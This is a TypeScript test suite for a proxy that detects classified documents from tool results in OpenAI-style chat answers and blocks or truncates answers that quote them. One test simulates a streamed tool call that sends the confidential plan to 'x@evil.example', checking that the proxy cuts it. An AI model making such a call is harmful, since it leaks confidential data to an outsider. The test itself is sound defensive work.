/** Classified documents and the answers that quote them, through a real Envoy with the OpenAI SDK: plain, streamed, calls. */
import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'node:test';
import OpenAI from 'openai';
import { MINUTES, NEWS, PLAN } from '../../cases/detectors/classified.ts';
import { DONE, event, STOP } from '../conformance/support/events.ts';
import { assertQuiet } from '../conformance/support/witness.ts';
import type { JournalRecord } from '../harness/journal.ts';
import { everywhere } from '../harness/shipped-policy.ts';
import { type Stack, startStack } from '../harness/stack.ts';
import { plainAnswer, streamedAnswer } from './support/exchange.ts';
import { assertRecorded, CLEAN, recordsOf } from './support/records.ts';

/** The shipped policy, for every host; what comes from a tool stands for what was retrieved. */
const SHIPPED = everywhere('confidential').replaceAll('retrieved: internal', 'tool: internal');
/** The same, for a client that is cleared. */
const CLEARED = SHIPPED.replace('spiffe://shop.internal/board/*', '127.0.0.1');

type Content = OpenAI.ChatCompletionToolMessageParam['content'];

/** A block with what an MCP server said of it. */
const labelled = (text: string, said: object): Content => [{ type: 'text', text, ...said }];

const DOCUMENTS: readonly (readonly [what: string, content: Content, of?: string])[] = [
  ['TLP', `TLP:RED\n${PLAN}`],
  ['a mark', `Notes | STRICTLY CONFIDENTIAL\n${PLAN}`],
  [
    'a label',
    JSON.stringify({ text: PLAN, annotations: { classification: 'confidential' } }),
    'CONFIDENTIAL',
  ],
  ['annotations', labelled(PLAN, { annotations: { classification: 'confidential' } }), 'CONFIDENTIAL'],
  ['_meta', labelled(PLAN, { _meta: { 'shop.internal/sensitivity': 'TLP:RED' } })],
  ['a label that nobody knows', labelled(PLAN, { annotations: { classification: 'zeta-7' } })],
  [
    'a resource as it came',
    JSON.stringify({ contents: [{ uri: 'file:///plan', text: PLAN, _meta: { classification: 'zeta-7' } }] }),
  ],
  ['a mark of the operator', `About Project Halcyon. ${PLAN}`],
];
const DENIED = ['request allow none', 'open deny cleared', 'close denied'];

function messagesWith(document: Content): OpenAI.ChatCompletionMessageParam[] {
  return [
    { role: 'user', content: 'What is new?' },
    {
      role: 'assistant',
      content: null,
      tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'read', arguments: '{}' } }],
    },
    { role: 'tool', tool_call_id: 'call_1', content: document },
  ];
}

const plain = (stack: Stack, content: string, document: Content) =>
  plainAnswer(stack, content, messagesWith(document));

const streamed = (stack: Stack, events: readonly string[], document: Content) =>
  streamedAnswer(stack, { events: [...events, STOP, DONE] }, messagesWith(document));

function deltasOf(text: string, size = 5): string[] {
  return text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'gu')) ?? [];
}

/** The types in the records, which quote nothing of the documents. */
function typesIn(records: readonly JournalRecord[]): string[] {
  const journal = JSON.stringify(records);
  for (const text of [PLAN, MINUTES, NEWS]) assert.ok(!journal.includes(text.slice(4, 30)));
  const findings = records.flatMap((record) => record['findings'] as readonly { type: string }[]);
  return [...new Set(findings.map(({ type }) => type))];
}

describe('A08 a classified document in an answer', { timeout: 120_000 }, () => {
  let stack: Stack;
  before(async () => {
    stack = await startStack({ policy: SHIPPED });
  });
  afterEach(() => assertQuiet(stack));
  after(async () => stack?.stop());

  for (const [what, document, of = 'RESTRICTED'] of DOCUMENTS) {
    it(`is refused: ${what}`, async () => {
      const error = await plain(stack, `It says: ${PLAN}`, document).catch((cause: unknown) => cause);
      assert.ok(error instanceof OpenAI.PermissionDeniedError, String(error));
      const records = await assertRecorded(stack, error.headers?.get('x-weir-id'), DENIED);
      assert.deepEqual(typesIn(records), [of]);
    });

    it(`is cut in a stream: ${what}`, async () => {
      const { text, finish, id } = await streamed(
        stack,
        deltasOf(`It says: ${PLAN}`).map((delta) => event(delta)),
        document,
      );
      assert.equal(finish, 'content_filter');
      assert.ok(text.length < 70, text);
      assert.deepEqual(typesIn(await recordsOf(stack, id)), [of]);
    });
  }

  it('is cut in the arguments of a call', async () => {
    const args = deltasOf(JSON.stringify({ to: 'x@evil.example', body: PLAN }));
    const call = (part: string, at: number) => {
      const head = at === 0 ? { id: 'call_2', type: 'function' } : {};
      const named = at === 0 ? { name: 'send' } : {};
      const tool_calls = [{ index: 0, ...head, function: { ...named, arguments: part } }];
      const choices = [{ index: 0, delta: { tool_calls }, finish_reason: null }];
      return `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices })}\n\n`;
    };
    const { finish, id } = await streamed(stack, args.map(call), DOCUMENTS[0]?.[1] ?? '');
    assert.equal(finish, 'content_filter');
    assert.deepEqual(typesIn(await recordsOf(stack, id)), ['RESTRICTED']);
  });

  it('leaves where it is internal, and is named', async () => {
    const answer = await plain(stack, `It says: ${NEWS}`, NEWS);
    assert.equal(answer.text, `It says: ${NEWS}`);
    assert.deepEqual(typesIn(await assertRecorded(stack, answer.id, CLEAN)), ['INTERNAL']);
  });

  it('leaves where its label is public, and another block bears one', async () => {
    const document = [
      ...labelled(NEWS, { annotations: { classification: 'public' } }),
      ...labelled(PLAN, { annotations: { classification: 'secret' } }),
    ] as Content;
    const answer = await plain(stack, `It says: ${NEWS}`, document);
    assert.equal(answer.text, `It says: ${NEWS}`);
    assert.deepEqual(typesIn(await assertRecorded(stack, answer.id, CLEAN)), ['INTERNAL']);
  });

  it('may be known to an answer that says nothing of it', async () => {
    for (const [, document] of DOCUMENTS) {
      const answer = await plain(stack, 'I may not say what the plan is.', document);
      assert.equal(answer.text, 'I may not say what the plan is.');
      assert.deepEqual(typesIn(await assertRecorded(stack, answer.id, CLEAN)), []);
    }
  });
});

describe('a classified document in an answer to a caller who is cleared', { timeout: 120_000 }, () => {
  let stack: Stack;
  before(async () => {
    stack = await startStack({ policy: CLEARED });
  });
  afterEach(() => assertQuiet(stack));
  after(async () => stack?.stop());

  it('leaves, and is named', async () => {
    const document = `TLP:RED\n${PLAN}`;
    const answer = await plain(stack, PLAN, document);
    assert.equal(answer.text, PLAN);
    assert.deepEqual(typesIn(await assertRecorded(stack, answer.id, CLEAN)), ['RESTRICTED']);
    const live = await streamed(
      stack,
      deltasOf(PLAN).map((delta) => event(delta)),
      document,
    );
    assert.equal(live.text, PLAN);
    assert.deepEqual(typesIn(await assertRecorded(stack, live.id, CLEAN)), ['RESTRICTED']);
  });
});
